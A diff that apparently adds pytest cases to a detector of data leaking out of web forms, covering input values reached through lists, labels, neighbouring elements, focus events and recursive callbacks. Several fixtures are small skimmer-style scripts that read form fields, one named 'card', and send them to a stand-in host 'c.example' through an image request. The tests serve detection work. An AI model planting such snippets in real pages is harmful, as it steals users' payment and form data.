@@ -285,3 +285,43 @@ def test_many_uses_of_a_shadowed_name_stay_fast():
     start = time.monotonic()
     assert leaks(source) == []
     assert time.monotonic() - start < 5
+
+
+# -- controls reached through lists, labels, neighbours and focus events ----------------------------
+NEIGHBOURS = "<form id=f><label for=c>Card</label><input id=c name=card><textarea name=note></textarea></form>"
+BOTH = ["input:#c", "input:[name=note]"]
+
+
+@pytest.mark.parametrize("read, paths", [
+    ("[...document.querySelectorAll('input, textarea')].map(i => i.value).join()", BOTH),
+    ("Array.from(document.querySelectorAll('textarea'), (t) => t.value)", ["input:[name=note]"]),
+    ("Array.from(document.querySelectorAll('textarea')).filter(Boolean).map(function (t) { return t.value })",
+     ["input:[name=note]"]),
+    ("[...f.elements].reduce((s, e) => s + e.value, '')", BOTH),
+    ("document.querySelector('label').control.value", BOTH),
+    ("document.querySelector('#c').labels[0].control.value", BOTH),
+    ("c.nextElementSibling.value", BOTH),
+    ("document.body.querySelector('form').lastElementChild.value", BOTH),
+    ("document.querySelector('#c').closest('form').note.value", ["input:[name=note]"]),
+])
+def test_a_control_reached_through_a_list_a_label_or_a_neighbour_is_an_input(read, paths):
+    assert leaks(sends(NEIGHBOURS, "document.body.onchange", read)) == [(paths, ["c.example"])]
+
+
+@pytest.mark.parametrize("event", ["blur", "focusout", "invalid"])
+def test_a_controls_focus_events_give_it_as_this_and_as_the_target(event):
+    source = (f"{NEIGHBOURS}<script>c.addEventListener('{event}', function (e) {{ new Image().src = {URL}this.value"
+              f" + e.target.value }})</script>")
+    assert leaks(source) == [(["input:#c"], ["c.example"])]
+
+
+def test_a_recursive_callback_of_map_ends():
+    """``value.map(sortKeys)`` inside ``sortKeys``: its return is read once."""
+    source = ("<textarea id=t></textarea><script>function sortKeys(v) { return Array.isArray(v) ? v.map(sortKeys) : v }"
+              f" t.onchange = () => {{ new Image().src = {URL}sortKeys([t.value]) }}</script>")
+    assert leaks(source) == [(["input:#t"], ["c.example"])]
+
+
+def test_a_list_of_controls_mapped_to_a_count_gives_no_input():
+    source = sends(NEIGHBOURS, "document.body.onchange", "[...document.querySelectorAll('input')].map(i => i.id.length).length")
+    assert leaks(source) == []
